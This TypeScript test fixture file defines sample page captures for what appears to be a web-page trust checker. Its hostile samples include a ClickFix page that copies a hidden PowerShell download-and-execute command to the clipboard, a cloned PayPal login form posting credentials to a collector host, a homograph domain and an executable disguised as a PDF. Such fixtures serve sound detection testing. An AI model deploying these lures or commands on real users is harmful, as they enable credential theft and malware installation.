import type { Capture } from '../../src/trust/visit/capture.ts'
import { captureOf, hopTo } from './captures.ts'

const page = (title: string, body: string): string =>
  `<!doctype html>\n<html lang="en">\n<head><title>${title}</title></head>\n<body>\n${body}\n</body>\n</html>\n`

const ARTICLE = page(
  'How we bake bread',
  '<h1>How we bake bread</h1><p>Flour, water, salt and time. The dough rests over night in the cellar.</p><a href="/shop">Shop</a>',
)

const login = (action: string): string => `<img src="/logo.svg" alt="PayPal">
<h1>Log in to your PayPal account</h1>
<form method="post" action="${action}">
  <label>Email <input type="email" name="login_email"></label>
  <label>Password <input type="password" name="login_password"></label>
  <button>Log In</button>
</form>
<footer>Copyright © 1999-2026 PayPal. All rights reserved.</footer>`

const CLICKFIX = page(
  'Verify you are human',
  `<h1>Verify you are human</h1>
<p>Press Windows + R, then Ctrl + V, then Enter.</p>
<button onclick="verify()">I am not a robot</button>
<script>function verify() {
  navigator.clipboard.writeText('powershell -w hidden -c "iwr https://files.example/a.ps1 | iex"')
}</script>`,
)

const WALL = page(
  'Just a moment...',
  '<noscript>Enable JavaScript and cookies to continue</noscript><script>window._cf_chl_opt = { cvId: "3" }</script>',
)

const DECEPTIVE = page(
  'Welcome\u202ekcab\u0007\u200b to http://user:secret@bank.example/',
  `<h1>\u2066Sign in\u2069</h1><form action="http://a:secret@192.0.2.7/p"><input type="password" name="p\u001b[31m"></form>`,
)

/** A DOS header that leads to a PE header, and nothing else of a program. */
function program(): Uint8Array {
  const bytes = Buffer.alloc(512)
  bytes.write('MZ', 0, 'latin1')
  bytes.writeUInt32LE(128, 0x3c)
  bytes.write('PE\0\0', 128, 'latin1')
  return bytes
}

/** One pixel. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
)

const SOUND_HEADERS = [
  ['content-security-policy', "default-src 'self'; frame-ancestors 'none'"],
  ['strict-transport-security', 'max-age=31536000; includeSubDomains'],
  ['x-content-type-options', 'nosniff'],
  ['referrer-policy', 'strict-origin-when-cross-origin'],
  ['set-cookie', 'session=1; Secure; HttpOnly; SameSite=Lax'],
] as const

/** Captures of pages of each kind, in the files of `golden/` by these names. */
export const GOLDEN_CAPTURES: Readonly<Record<string, Capture>> = {
  'benign-article': captureOf('https://bakery.example/bread', { body: ARTICLE, headers: SOUND_HEADERS }),
  'bot-wall': captureOf('https://shop.example/', {
    body: WALL,
    status: 403,
    headers: [['cf-mitigated', 'challenge']],
  }),
  clickfix: captureOf('https://human-check.example/', { body: CLICKFIX }),
  'deceptive-text': captureOf('http://notes.example/', { body: DECEPTIVE }),
  download: captureOf('https://files.example/invoice', {
    body: program(),
    type: 'application/octet-stream',
    headers: [['content-disposition', 'attachment; filename="invoice.pdf.exe"']],
  }),
  'empty-page': captureOf('https://quiet.example/', { body: '' }),
  'error-page': captureOf('https://bakery.example/cake', {
    body: page('Not found', '<h1>Not found</h1>'),
    status: 404,
  }),
  'expired-certificate': captureOf('https://bakery.example/bread', {
    body: ARTICLE,
    tls: {
      error: 'CERT_HAS_EXPIRED',
      not_before: '2026-08-01T00:00:00.000Z',
      not_after: '2026-11-17T00:00:00.000Z',
    },
  }),
  'idn-homograph': captureOf('https://xn--pypal-4ve.com/', { body: page('Log in', login('/signin')) }),
  image: captureOf('https://bakery.example/logo.png', { body: PIXEL, type: 'image/png' }),
  'official-login': captureOf('https://www.paypal.com/signin', {
    body: page('Log in to your PayPal account', login('/signin')),
    headers: SOUND_HEADERS,
  }),
  'phishing-login': captureOf('https://account-review.example/login', {
    body: page('Log in to your PayPal account', login('https://collector.example/p.php')),
  }),
  'redirect-chain': captureOf('http://landing.example/a', {
    body: ARTICLE,
    before: [
      hopTo('https://bit.ly/3abc', { status: 301 }),
      hopTo('https://track.example/?to=http%3A%2F%2Flanding.example%2Fa', { status: 302 }),
      hopTo('https://middle.example/', { status: 200 }),
    ],
    via: 'meta',
  }),
  'script-only': captureOf('https://app.example/', {
    body: page('App', '<div id="root"></div><script src="/app.js"></script>'),
  }),
}
